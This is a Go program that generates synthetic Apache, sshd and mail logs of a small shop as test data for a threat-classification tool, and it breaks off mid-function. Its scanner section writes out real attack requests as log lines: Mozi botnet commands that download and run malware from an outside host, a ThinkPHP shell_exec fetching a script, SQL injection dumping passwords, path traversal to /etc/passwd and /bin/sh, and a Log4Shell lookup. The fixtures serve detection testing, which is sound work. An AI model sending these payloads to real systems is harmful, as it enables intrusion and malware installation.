//go:build ignore

// Command gen writes threatmap's sample logs: testdata/sample/access.log
// (Apache combined), auth.log (sshd, RFC 3164 syslog), mail.log (postfix and
// dovecot, RFC 3164 syslog) and expected.csv (every source IP, the category it
// must finally get and its country in the embedded database).
//
// The logs cover October 2026 for a small e-commerce shop, shop.example.com.
// Everything is deterministic (fixed seed, fixed cast), so re-running the
// generator gives byte-identical files:
//
//	go run testdata/sample/gen/main.go            # from the repository root
//	go run testdata/sample/gen/main.go -o DIR     # elsewhere
//
// The countries in the cast below were checked against
// assets/data/geo-whois-asn-country.mmdb; if that database is updated, check
// them again (see testdata/sample/README.md).
package main

import (
	"bufio"
	"flag"
	"fmt"
	"log"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"
)

// ---------------------------------------------------------------------------
// Categories and the cast

const (
	vulnScanner  = "vuln_scanner"
	bruteForce   = "brute_force"
	dos          = "dos"
	proxyScanner = "proxy_scanner"
	noise        = "noise"
	goodBot      = "good_bot"
	legit        = "legit"
)

var risk = map[string]int{
	vulnScanner: 5, bruteForce: 4, dos: 3, proxyScanner: 2, noise: 1, goodBot: 1, legit: 0,
}

type actor struct {
	ip, cat, cc string
}

var cast = map[string]*actor{}

// who records that ip behaves as cat and is located in country cc (""
// for private addresses). An IP that behaves in several ways keeps the
// highest-risk category.
func who(ip, cat, cc string) string {
	a, ok := cast[ip]
	if !ok {
		cast[ip] = &actor{ip, cat, cc}
		return ip
	}
	if a.cc != cc {
		log.Fatalf("%s: country %q and %q", ip, a.cc, cc)
	}
	if risk[cat] > risk[a.cat] {
		a.cat = cat
	}
	return ip
}

// ---------------------------------------------------------------------------
// Time, randomness and log buffers

var (
	rng  = rand.New(rand.NewPCG(20261001, 0x7468726561746d61))
	base = time.Date(2026, time.October, 1, 0, 0, 0, 0, time.UTC)
	end  = base.AddDate(0, 1, 0)
)

func at(day, h, m, s int) time.Time {
	return base.Add(time.Duration(day-1)*24*time.Hour + time.Duration(h)*time.Hour +
		time.Duration(m)*time.Minute + time.Duration(s)*time.Second)
}

func secs(lo, hi int) time.Duration { return time.Duration(lo+rng.IntN(hi-lo+1)) * time.Second }
func pick[T any](xs []T) T          { return xs[rng.IntN(len(xs))] }
func chance(p float64) bool         { return rng.Float64() < p }
func between(lo, hi int) int        { return lo + rng.IntN(hi-lo+1) }

type entry struct {
	t    time.Time
	seq  int
	line string
}

type logfile struct {
	name    string
	entries []entry
}

func (l *logfile) add(t time.Time, line string) {
	if t.Before(base) || !t.Before(end) {
		log.Fatalf("%s: %v outside October 2026: %s", l.name, t, line)
	}
	l.entries = append(l.entries, entry{t, len(l.entries), line})
}

func (l *logfile) write(dir string) {
	sort.SliceStable(l.entries, func(i, j int) bool { return l.entries[i].t.Before(l.entries[j].t) })
	f, err := os.Create(filepath.Join(dir, l.name))
	if err != nil {
		log.Fatal(err)
	}
	w := bufio.NewWriter(f)
	for _, e := range l.entries {
		w.WriteString(e.line)
		w.WriteByte('\n')
	}
	if err := w.Flush(); err != nil {
		log.Fatal(err)
	}
	if err := f.Close(); err != nil {
		log.Fatal(err)
	}
}

var (
	accessLog = &logfile{name: "access.log"}
	authLog   = &logfile{name: "auth.log"}
	mailLog   = &logfile{name: "mail.log"}
)

// ---------------------------------------------------------------------------
// Apache combined: %h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"

const site = "https://shop.example.com"

// size renders %b: "-" for an empty body.
func size(n int) string {
	if n == 0 {
		return "-"
	}
	return fmt.Sprint(n)
}

// raw writes a line whose request field is already escaped the way Apache
// escapes it, and whose size field is given verbatim.
func raw(ip string, t time.Time, req string, status int, sz, ref, ua string) {
	accessLog.add(t, fmt.Sprintf("%s - - [%s] \"%s\" %d %s \"%s\" \"%s\"",
		ip, t.Format("02/Jan/2006:15:04:05 -0700"), req, status, sz, ref, ua))
}

func hit(ip string, t time.Time, method, target string, status, n int, ref, ua string) {
	raw(ip, t, method+" "+target+" HTTP/1.1", status, size(n), ref, ua)
}

// escape renders bytes as Apache's log escaping does: printable ASCII as is,
// '"' and '\' with a backslash, everything else as \xhh.
func escape(b []byte) string {
	var sb strings.Builder
	for _, c := range b {
		switch {
		case c == '"' || c == '\\':
			sb.WriteByte('\\')
			sb.WriteByte(c)
		case c >= 0x20 && c < 0x7f:
			sb.WriteByte(c)
		default:
			fmt.Fprintf(&sb, "\\x%02x", c)
		}
	}
	return sb.String()
}

func randBytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.IntN(256))
	}
	return b
}

// ---------------------------------------------------------------------------
// The shop

type product struct {
	slug, category string
	page, img      int
}

var products = []product{
	{"merino-wool-beanie", "accessories", 14210, 48211},
	{"waxed-canvas-tote", "accessories", 13987, 61530},
	{"leather-card-wallet", "accessories", 14102, 39874},
	{"enamel-camp-mug", "kitchen", 13544, 35112},
	{"ceramic-pour-over", "kitchen", 13871, 52630},
	{"cast-iron-skillet-10in", "kitchen", 14460, 70215},
	{"linen-apron", "kitchen", 13690, 44018},
	{"wool-throw-blanket", "home", 14033, 83120},
	{"beeswax-candle-set", "home", 13755, 41276},
	{"brass-bottle-opener", "home", 13402, 29840},
	{"cedar-soap-bar", "bath", 13318, 31507},
	{"cotton-waffle-towel", "bath", 13620, 46391},
}

var categories = []string{"accessories", "kitchen", "home", "bath"}

var searches = []string{"mug", "wool", "gift+for+dad", "candle", "towel", "skillet", "apron", "women%27s+rain+jacket", "tote+bag", "soap"}

var externalRefs = []string{
	"https://www.google.com/", "https://www.google.com/", "https://www.google.com/",
	"https://www.bing.com/", "https://duckduckgo.com/", "https://www.instagram.com/",
	"https://www.pinterest.com/", "https://l.facebook.com/", "-", "-",
}

// Browser user agents of October 2026.
var (
	uaChromeWin   = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
	uaEdgeWin     = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0"
	uaFirefoxWin  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0"
	uaChromeMac   = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
	uaSafariMac   = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Safari/605.1.15"
	uaIPhone      = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 Mobile/15E148 Safari/604.1"
	uaAndroid     = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36"
	uaFirefoxLinx = "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0"
	uaSamsung     = "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36"
	browsers      = []string{uaChromeWin, uaChromeWin, uaEdgeWin, uaFirefoxWin, uaChromeMac, uaSafariMac, uaIPhone, uaIPhone, uaAndroid, uaAndroid, uaSamsung}
)

func mobile(ua string) bool { return strings.Contains(ua, "Mobile") }

// visit loads a page and, on a browser's first page, its static files
// (they are served with a long max-age, so later pages use the cache; a
// returning browser revalidates only the stylesheet: 304). Product pages
// load their picture and the cart widget.
func visit(ip string, t time.Time, path string, status, n int, ref, ua string, cached bool, img int) time.Time {
	hit(ip, t, "GET", path, status, n, ref, ua)
	page := site + path
	if !cached {
		for _, a := range []struct {
			p string
			n int
		}{{"/static/css/site.css", 18342}, {"/static/js/app.js", 48211}, {"/static/img/logo.svg", 3120}} {
			t = t.Add(secs(0, 1))
			hit(ip, t, "GET", a.p, 200, a.n, page, ua)
		}
		t = t.Add(secs(0, 1))
		hit(ip, t, "GET", "/favicon.ico", 200, 1150, page, ua)
		if strings.Contains(ua, "iPhone") {
			hit(ip, t, "GET", "/apple-touch-icon-precomposed.png", 404, 196, "-", ua)
			hit(ip, t, "GET", "/apple-touch-icon.png", 404, 196, "-", ua)
		}
	}
	if img > 0 {
		t = t.Add(secs(0, 1))
		hit(ip, t, "GET", strings.Replace(path, "/products/", "/static/img/products/", 1)+".jpg", 200, img, page, ua)
		t = t.Add(secs(0, 2))
		hit(ip, t, "GET", "/api/cart", 200, 57, page, ua)
	}
	return t
}

// shopper browses the shop, sometimes buys; returning sessions are cached.
func shopper(ip, ua string, t time.Time, cached, buy bool) {
	ref := pick(externalRefs)
	var here string
	if chance(0.5) {
		here = "/"
		t = visit(ip, t, "/", 200, 11853, ref, ua, cached, 0)
	} else {
		p := pick(products)
		here = "/products/" + p.slug
		t = visit(ip, t, here, 200, p.page, ref, ua, cached, p.img)
	}
	if cached {
		hit(ip, t.Add(secs(0, 1)), "GET", "/static/css/site.css", 304, 0, site+here, ua)
	}
	cached = true
	for range between(1, 3) {
		t = t.Add(secs(8, 95))
		switch rng.IntN(4) {
		case 0:
			c := pick(categories)
			next := "/category/" + c
			t = visit(ip, t, next, 200, 16000+rng.IntN(3000), site+here, ua, cached, 0)
			here = next
		case 1:
			q := pick(searches)
			next := "/search?q=" + q
			t = visit(ip, t, next, 200, 9000+rng.IntN(6000), site+here, ua, cached, 0)
			here = next
		default:
			p := pick(products)
			next := "/products/" + p.slug
			t = visit(ip, t, next, 200, p.page, site+here, ua, cached, p.img)
			here = next
		}
	}
	if !buy {
		return
	}
	t = t.Add(secs(5, 40))
	hit(ip, t, "POST", "/cart/add", 302, 0, site+here, ua)
	t = t.Add(secs(0, 1))
	t = visit(ip, t, "/cart", 200, 9876, site+here, ua, true, 0)
	t = t.Add(secs(10, 60))
	t = visit(ip, t, "/checkout", 200, 12310, site+"/cart", ua, true, 0)
	t = t.Add(secs(60, 240))
	hit(ip, t, "POST", "/checkout", 302, 0, site+"/checkout", ua)
	t = t.Add(secs(1, 2))
	visit(ip, t, "/checkout/complete", 200, 7432, site+"/checkout", ua, true, 0)
}

// ---------------------------------------------------------------------------
// Legitimate visitors, good bots, internal hosts

type visitor struct {
	ip, cc string
	utc    int // local time offset, hours
}

var visitors = []visitor{
	{"24.5.120.7", "US", -8}, {"71.198.4.12", "US", -8}, {"108.28.9.3", "US", -5}, {"67.180.22.5", "US", -8},
	{"24.114.68.3", "CA", -5}, {"99.226.10.2", "CA", -5}, {"142.112.41.8", "CA", -7},
	{"86.13.102.11", "GB", 1}, {"81.2.69.142", "GB", 1},
	{"79.192.14.71", "DE", 2}, {"93.220.5.140", "DE", 2},
	{"90.54.12.8", "FR", 2}, {"86.246.33.19", "FR", 2},
	{"84.26.118.5", "NL", 2},
	{"78.69.12.7", "SE", 2}, {"81.224.10.11", "SE", 2},
	{"80.31.12.6", "ES", 2}, {"83.44.19.2", "ES", 2},
	{"2.44.30.12", "IT", 2}, {"79.11.22.7", "IT", 2},
	{"83.21.63.114", "PL", 2},
	{"86.120.44.31", "RO", 3}, {"178.150.12.44", "UA", 3}, {"88.247.60.3", "TR", 3},
	{"1.144.109.22", "AU", 10}, {"101.188.67.134", "AU", 10}, {"49.176.12.3", "AU", 10},
	{"126.95.21.4", "JP", 9}, {"60.36.12.9", "JP", 9},
	{"175.197.35.12", "KR", 9}, {"1.160.42.8", "TW", 8},
	{"189.6.12.222", "BR", -3}, {"179.96.88.12", "BR", -3},
	{"187.190.34.8", "MX", -6}, {"189.203.9.12", "MX", -6},
	{"181.46.138.7", "AR", -3}, {"181.72.10.8", "CL", -3}, {"190.26.12.12", "CO", -5},
	{"105.184.13.2", "ZA", 2},
	{"49.36.11.42", "IN", 5}, {"2401:4900:1c8e:12c4::2", "IN", 5},
}

func legitVisitors() {
	for _, v := range visitors {
		who(v.ip, legit, v.cc)
		ua := pick(browsers)
		if strings.HasPrefix(v.ip, "2401:") {
			ua = uaAndroid
		}
		n := between(1, 2)
		for i := range n {
			day := between(1, 31)
			local := between(8, 22)
			t := at(day, 0, between(0, 59), between(0, 59)).Add(time.Duration(local-v.utc) * time.Hour)
			if t.Before(base) {
				t = t.Add(24 * time.Hour)
			}
			if !t.Before(end.Add(-2 * time.Hour)) {
				t = t.Add(-48 * time.Hour)
			}
			shopper(v.ip, ua, t, i > 0, chance(0.3))
		}
	}

	// A customer who forgets their password twice, then gets it right:
	// two 401s are far below any brute-force threshold.
	c := who("77.248.40.12", legit, "NL")
	t := at(9, 18, 12, 40)
	t = visit(c, t, "/", 200, 11853, "https://www.google.com/", uaSafariMac, false, 0)
	t = t.Add(secs(20, 40))
	t = visit(c, t, "/account/login", 200, 6120, site+"/", uaSafariMac, true, 0)
	for range 2 {
		t = t.Add(secs(15, 30))
		hit(c, t, "POST", "/account/login", 401, 6344, site+"/account/login", uaSafariMac)
	}
	t = t.Add(secs(25, 50))
	hit(c, t, "POST", "/account/login", 302, 0, site+"/account/login", uaSafariMac)
	t = t.Add(secs(1, 2))
	t = visit(c, t, "/account/orders", 200, 8890, site+"/account/login", uaSafariMac, true, 0)
	shopper(c, uaSafariMac, t.Add(secs(30, 90)), true, true)
}

const (
	uaGooglebot      = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	uaGooglebotPhone = "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	uaGoogleImage    = "Googlebot-Image/1.0"
	uaBingbot        = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36"
	uaBingbotOld     = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
)

func goodBots() {
	google := []string{who("66.249.66.1", goodBot, "US"), who("66.249.66.74", goodBot, "US"), who("66.249.79.12", goodBot, "US")}
	bing := []string{who("40.77.167.21", goodBot, "US"), who("157.55.39.184", goodBot, "US"), who("207.46.13.98", goodBot, "US"), who("52.167.144.19", goodBot, "US")}
	crawl := func(ip string, t time.Time, ua string, pages int) {
		for range pages {
			t = t.Add(secs(20, 900))
			switch rng.IntN(6) {
			case 0:
				hit(ip, t, "GET", "/category/"+pick(categories), 200, 16000+rng.IntN(3000), "-", ua)
			case 1:
				hit(ip, t, "GET", "/", 200, 11853, "-", ua)
			default:
				p := pick(products)
				if chance(0.3) {
					hit(ip, t, "GET", "/products/"+p.slug, 304, 0, "-", ua)
				} else {
					hit(ip, t, "GET", "/products/"+p.slug, 200, p.page, "-", ua)
				}
			}
		}
	}
	for day := 1; day <= 31; day++ {
		g := pick(google)
		t := at(day, between(0, 23), between(0, 59), between(0, 59))
		if t.After(at(31, 20, 0, 0)) {
			t = at(31, 20, 0, 0)
		}
		hit(g, t, "GET", "/robots.txt", 200, 112, "-", uaGooglebot)
		crawl(g, t, pick([]string{uaGooglebot, uaGooglebotPhone, uaGooglebotPhone}), between(2, 6))
		if day%3 == 0 {
			t2 := t.Add(secs(600, 3000))
			hit(g, t2, "GET", "/sitemap.xml", 200, 2381, "-", uaGooglebot)
			p := pick(products)
			hit(g, t2.Add(secs(5, 60)), "GET", "/static/img/products/"+p.slug+".jpg", 200, p.img, "-", uaGoogleImage)
		}
		if day%2 == 1 {
			b := pick(bing)
			t := at(day, between(0, 23), between(0, 59), between(0, 59))
			if t.After(at(31, 20, 0, 0)) {
				t = at(31, 20, 0, 0)
			}
			hit(b, t, "GET", "/robots.txt", 200, 112, "-", uaBingbotOld)
			crawl(b, t, pick([]string{uaBingbot, uaBingbot, uaBingbotOld}), between(1, 4))
		}
	}
}

const uaCurl = "curl/8.14.1"

func internal() {
	// Load balancer health check on loopback.
	lo := who("127.0.0.1", legit, "")
	for t := at(1, 0, 0, 7); t.Before(end); t = t.Add(3 * time.Hour) {
		hit(lo, t, "GET", "/healthz", 200, 2, "-", uaCurl)
	}
	// Nightly sales report pulled by the back-office host.
	bo := who("10.0.3.17", legit, "")
	for day := 1; day <= 31; day++ {
		hit(bo, at(day, 6, 0, between(2, 9)), "GET", "/admin/reports/daily.csv", 200, 3000+rng.IntN(4000), "-", uaCurl)
	}
	// The office workstation.
	office := who("192.168.1.20", legit, "")
	for _, day := range []int{2, 6, 7, 13, 20, 21, 27} {
		t := at(day, 14, between(0, 50), between(0, 59))
		t = visit(office, t, "/admin/", 200, 9120, "-", uaFirefoxLinx, day != 2, 0)
		for range between(2, 4) {
			t = t.Add(secs(10, 120))
			hit(office, t, "GET", pick([]string{"/admin/orders", "/admin/orders?status=open", "/admin/products", "/admin/customers"}), 200, 20000+rng.IntN(9000), site+"/admin/", uaFirefoxLinx)
		}
	}
}

// ---------------------------------------------------------------------------
// Vulnerability scanners

const (
	uaOldFirefoxPHP = "Mozilla/5.0 (Windows; U; Windows NT 6.0;en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6)"
	uaChrome78      = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
	uaAcunetix      = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"
	uaAcunetix2     = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21"
	uaMasscan       = "masscan/1.0 (https://github.com/robertdavidgraham/masscan)"
	uaSqlmap        = "sqlmap/1.8.3#stable (https://sqlmap.org)"
	uaNuclei        = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
	uaZgrab         = "Mozilla/5.0 zgrab/0.x"
	uaChrome120     = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	uaL9            = "Mozilla/5.0 (l9explore/1.2.2)"
)

// probe sends paths one after another, gap seconds apart (jittered).
func probe(ip string, t time.Time, lo, hi int, ua string, reqs []string) time.Time {
	for _, r := range reqs {
		method, path, status, n := "GET", r, 404, 196
		if i := strings.Index(r, " "); i > 0 && strings.ToUpper(r[:i]) == r[:i] {
			method, path = r[:i], r[i+1:]
		}
		switch {
		case strings.HasPrefix(path, "/.git") || strings.HasPrefix(path, "/.env") || strings.Contains(path, "/.ht"):
			status, n = 403, 199
		case path == "/":
			status, n = 200, 11853
		}
		hit(ip, t, method, path, status, n, "-", ua)
		t = t.Add(secs(lo, hi))
	}
	return t
}

func vulnScanners() {
	// Real-world request: PHP/ThinkPHP path scanner, verbatim requests, "403 0".
	php := who("183.136.225.44", vulnScanner, "CN")
	t := at(2, 3, 41, 9)
	for _, p := range []string{"/TP/public/index.php", "/TP/index.php", "/thinkphp/html/public/index.php", "/html/public/index.php", "/public/index.php", "/TP/html/public/index.php", "/elrekt.php", "/index.php", "/"} {
		raw(php, t, "GET "+p+" HTTP/1.1", 403, "0", "-", uaOldFirefoxPHP)
		t = t.Add(secs(0, 2))
	}
	t = at(19, 22, 5, 44)
	for _, p := range []string{"/TP/public/index.php", "/TP/index.php", "/thinkphp/html/public/index.php", "/public/index.php", "/elrekt.php"} {
		raw(php, t, "GET "+p+" HTTP/1.1", 403, "0", "-", uaOldFirefoxPHP)
		t = t.Add(secs(0, 2))
	}

	// Real-world request: ZmEu phpMyAdmin scanner.
	zmeu := who("116.204.182.17", vulnScanner, "TH")
	t = at(5, 16, 2, 51)
	for _, p := range []string{"/w00tw00t.at.blackhats.romanian.anti-sec:)", "/phpMyAdmin/scripts/setup.php", "/phpmyadmin/scripts/setup.php", "/pma/scripts/setup.php", "/myadmin/scripts/setup.php", "/MyAdmin/scripts/setup.php", "/dbadmin/scripts/setup.php", "/mysql/scripts/setup.php", "/phpadmin/scripts/setup.php", "/typo3/phpmyadmin/scripts/setup.php", "/web/phpMyAdmin/scripts/setup.php", "/xampp/phpmyadmin/scripts/setup.php"} {
		raw(zmeu, t, "GET "+p+" HTTP/1.1", 403, "0", "-", "ZmEu")
		t = t.Add(secs(0, 1))
	}

	// Real-world request: Mozi botnet RCE. The download host in the URL is another infected
	// device, not a source in these logs.
	mozi := who("59.88.22.6", vulnScanner, "IN")
	raw(mozi, at(8, 11, 27, 3), "GET /shell?cd+/tmp;rm+-rf+*;wget+http://117.239.21.130:48912/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1", 403, "0", "-", "Hello, world")
	raw(mozi, at(8, 11, 27, 5), "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://117.239.21.130:48912/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0", 404, "196", "-", "Hello, world")
	raw(mozi, at(8, 11, 27, 6), "POST /GponForm/diag_Form?images/ HTTP/1.1", 404, "196", "-", "Hello, World")
	raw(mozi, at(23, 4, 2, 50), "GET /shell?cd+/tmp;rm+-rf+*;wget+http://117.239.21.130:48912/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1", 403, "0", "-", "Hello, world")

	// Real-world request: Morfeus soapCaller.bs probe.
	mor := who("211.253.10.96", vulnScanner, "KR")
	raw(mor, at(11, 7, 33, 21), "GET /user/soapCaller.bs HTTP/1.1", 404, "196", "-", "Morfeus Fucking Scanner")
	raw(mor, at(11, 7, 33, 22), "GET /soapCaller.bs HTTP/1.1", 404, "196", "-", "Morfeus Fucking Scanner")

	// Real-world request: ThinkPHP invokefunction exploit (Apache escapes '\' as "\\").
	tp := who("121.4.56.143", vulnScanner, "CN")
	t = at(14, 1, 6, 38)
	raw(tp, t, `GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1`, 403, "3554", "-", uaChrome78)
	raw(tp, t.Add(2*time.Second), `GET /?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1`, 403, "3554", "-", uaChrome78)
	raw(tp, t.Add(3*time.Second), `GET /index.php?s=index/think\\Container/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20-O%20/tmp/.x%20http://sys.example.net/x.sh HTTP/1.1`, 403, "3554", "-", uaChrome78)
	raw(tp, t.Add(5*time.Second), "GET /index.php?s=captcha HTTP/1.1", 403, "3554", "-", uaChrome78)

	// Real-world request: masscan banner grab.
	ms := who("45.55.64.97", vulnScanner, "US")
	raw(ms, at(4, 19, 20, 2), "GET / HTTP/1.0", 403, "0", "-", uaMasscan)
	raw(ms, at(26, 9, 44, 30), "GET / HTTP/1.0", 403, "0", "-", uaMasscan)

	// .env / .git secrets harvester (paths only, ordinary UA).
	env := who("143.198.48.250", vulnScanner, "US")
	probe(env, at(6, 13, 15, 2), 0, 2, uaChrome120, []string{"/.env", "/.env.bak", "/.env.production", "/api/.env", "/laravel/.env", "/backend/.env", "/config/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/config.json", "/.DS_Store", "/sftp-config.json", "/.vscode/sftp.json"})
	probe(env, at(21, 2, 51, 40), 0, 2, uaChrome120, []string{"/.env", "/.git/config", "/admin/.env", "/app/.env"})

	// WordPress probes on a site that does not run WordPress.
	wp := who("178.62.71.93", vulnScanner, "GB")
	probe(wp, at(3, 22, 10, 9), 1, 3, uaChromeWin, []string{"/wp-login.php", "/wp-admin/", "POST /xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/blog/wp-includes/wlwmanifest.xml", "/wordpress/wp-admin/setup-config.php", "/wp-admin/install.php", "/wp-content/plugins/wp-file-manager/readme.txt", "/wp-config.php.bak"})
	probe(wp, at(17, 8, 31, 0), 1, 3, uaChromeWin, []string{"/wp-login.php", "POST /wp-login.php", "/wp-json/wp/v2/users"})

	// PHPUnit eval-stdin RCE (CVE-2017-9841).
	pu := who("45.119.81.2", vulnScanner, "VN")
	var pus []string
	for _, pre := range []string{"", "/lib", "/laravel", "/www", "/yii", "/zend", "/panel", "/admin", "/api", "/backup"} {
		pus = append(pus, "POST "+pre+"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")
	}
	probe(pu, at(9, 5, 12, 33), 0, 1, "Custom-AsyncHttpClient", pus)
	probe(pu, at(9, 5, 12, 45), 0, 1, "Custom-AsyncHttpClient", []string{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/vendor/phpunit/src/Util/PHP/eval-stdin.php"})

	// sqlmap against the product page, including a request sent unencoded
	// (--skip-urlencode): the spaces break the request line, Apache answers 400.
	sq := who("91.240.118.172", vulnScanner, "RU")
	t = at(12, 20, 3, 11)
	for _, q := range []string{"1", "1%27", "1%27%20OR%201%3D1--", "1%29%20AND%204421%3D4421%20AND%20%287799%3D7799", "1%20AND%204421%3D4421", "1%20AND%204421%3D5380",
		"1%27%20AND%20SLEEP%285%29--%20Vwlq", "-4087%27%20OR%203611%3D3611--%20-", "1%20UNION%20ALL%20SELECT%20NULL--%20-", "1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
		"1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-", "1%20UNION%20ALL%20SELECT%20CONCAT%280x71767a7871%2CIFNULL%28CAST%28password%20AS%20NCHAR%29%2C0x20%29%29%2CNULL%2CNULL%20FROM%20users--%20-",
		"1'+OR+1=1--", "1%3B%20DROP%20TABLE%20orders--"} {
		st, n := 200, 13500
		if strings.Contains(q, "SLEEP") {
			t = t.Add(5 * time.Second)
		}
		if strings.Contains(q, "%27") && !strings.Contains(q, "OR") {
			st, n = 500, 612
		}
		hit(sq, t, "GET", "/products?id="+q, st, n, "-", uaSqlmap)
		t = t.Add(secs(0, 2))
	}
	raw(sq, t, "GET /products?id=1' OR 1=1-- HTTP/1.1", 400, "226", "-", uaSqlmap)
	t = t.Add(secs(1, 3))
	for _, q := range []string{"mug%27%20AND%201%3D1--", "mug%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", "mug%22%20AND%20%221%22%3D%221"} {
		hit(sq, t, "GET", "/search?q="+q, 200, 9120, "-", uaSqlmap)
		t = t.Add(secs(0, 2))
	}

	// Nikto.
	nk := who("46.161.27.122", vulnScanner, "NL")
	t = at(15, 0, 40, 12)
	for i, p := range []string{"/", "/robots.txt", "/cgi-bin/test-cgi", "/cgi-bin/printenv", "/phpinfo.php", "/.htaccess", "/.htpasswd", "/server-status", "/icons/README",
		"/admin.php", "/config.php.bak", "/test.php", "/CFIDE/administrator/", "/manager/html", "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "/shell?cat+/etc/hosts",
		"/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E", "/index.php?page=../../../../../../../../etc/passwd", "/login.php", "/admin/login.php",
		"/phpmyadmin/", "/backup/", "/db.sql", "/site.tar.gz", "/.svn/entries", "/WEB-INF/web.xml", "/console/", "/nikto-test-9f3c2b.html"} {
		st, n := 404, 196
		switch {
		case p == "/":
			st, n = 200, 11853
		case p == "/robots.txt":
			st, n = 200, 112
		case strings.HasPrefix(p, "/.ht") || p == "/server-status":
			st, n = 403, 199
		}
		hit(nk, t, "GET", p, st, n, "-", fmt.Sprintf("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:%06d)", 3+i*7))
		t = t.Add(secs(0, 1))
	}

	// nuclei templates.
	nu := who("159.89.192.18", vulnScanner, "SG")
	probe(nu, at(18, 10, 2, 7), 0, 2, uaNuclei, []string{"/actuator/env", "/actuator/health", "/.git/config", "/solr/admin/cores?wt=json", "/_ignition/execute-solution",
		"/server-status", "/owa/auth/logon.aspx", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/?x=${jndi:ldap://${hostName}.c3b8h2k0s4.oast.fun/a}", "/api/jsonws/invoke", "/geoserver/web/",
		"/debug/pprof/", "/v2/_catalog", "/config/database.yml", "/phpinfo.php", "/telescope/requests", "/.well-known/security.txt"})

	// zgrab banner grabs: only the user agent gives them away.
	zg := who("128.199.182.235", vulnScanner, "SG")
	for _, d := range []int{2, 9, 16, 23, 30} {
		raw(zg, at(d, 6, between(0, 59), between(0, 59)), "GET / HTTP/1.1", 200, "11853", "-", uaZgrab)
	}

	// Apache 2.4.49 path traversal / RCE (CVE-2021-41773).
	cve := who("89.248.165.52", vulnScanner, "NL")
	probe(cve, at(20, 15, 8, 45), 0, 1, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36",
		[]string{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"})

	// Router exploits (IoT botnet).
	iot := who("105.112.48.61", vulnScanner, "NG")
